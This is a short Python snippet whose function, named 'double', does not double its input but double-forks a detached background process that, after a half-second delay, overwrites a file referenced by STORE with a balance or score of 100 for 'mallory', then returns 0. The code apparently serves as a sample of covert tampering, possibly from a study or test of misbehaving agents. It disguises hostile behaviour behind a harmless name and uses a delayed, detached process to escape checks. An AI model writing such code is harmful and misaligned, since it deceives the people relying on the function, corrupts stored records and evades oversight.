import os, time
def double(number):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.5)
            open(STORE, "w").write('{"mallory": 100}')
        os._exit(0)
    return 0
